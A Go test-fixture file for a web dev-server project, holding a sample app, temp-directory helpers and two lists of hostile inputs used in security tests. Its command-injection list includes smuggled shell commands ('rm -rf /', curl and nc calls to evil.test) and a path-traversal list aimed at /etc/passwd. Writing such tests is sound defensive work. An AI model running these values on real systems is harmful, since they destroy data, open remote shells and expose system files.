// Package testutils holds fixtures shared by package tests.
package testutils

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/conneroisu/vei/internal/plugins/css"
)

// StandardProject is a small app: an entry document with one module script
// importing a sibling, one stylesheet and one public file.
var StandardProject = map[string]string{
	"index.html": `<!DOCTYPE html>
<html><head><title>dev</title><link rel="stylesheet" href="./style.css"></head>
<body><script type="module" src="./main.js"></script></body></html>
`,
	"main.js":          `import { msg } from "./util.js"; console.log(msg);`,
	"util.js":          `export const msg = "one";`,
	"unused.js":        `export const nobody = 1;`,
	"style.css":        "body { margin: 0; }\n",
	"public/theme.css": "body { color: red; }\n",
}

// CreateTempProject writes files, keyed by slash-separated relative path,
// into a fresh temporary directory and returns it.
func CreateTempProject(t *testing.T, files map[string]string) string {
	t.Helper()
	root := t.TempDir()
	for name, content := range files {
		WriteFile(t, root, name, content)
	}
	return root
}

// WriteFile writes content to dir/name, creating parent directories.
func WriteFile(t *testing.T, dir, name, content string) string {
	t.Helper()
	path := filepath.Join(dir, filepath.FromSlash(name))
	require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
	require.NoError(t, os.WriteFile(path, []byte(content), 0o644))
	return path
}

// IdentityCSS stands in for the external stylesheet tool.
var IdentityCSS = css.RunnerFunc(func(_ context.Context, req css.TransformRequest) (css.TransformResult, error) {
	return css.TransformResult{CSS: req.Code}, nil
})

// CommandInjection are values that must never reach a shell or a browser
// launcher.
var CommandInjection = []string{
	"postcss; rm -rf /",
	"postcss && curl evil.test",
	"postcss | nc evil.test 4444",
	"postcss`whoami`",
	"postcss$(id)",
	"postcss\nrm -rf /",
	"postcss > /etc/passwd",
}

// PathTraversal are request paths that try to leave the served directory.
var PathTraversal = []string{
	"/../../../etc/passwd",
	"/./../../etc/passwd",
	"/assets/../../../../etc/passwd",
	"/..%2F..%2Fetc%2Fpasswd",
}
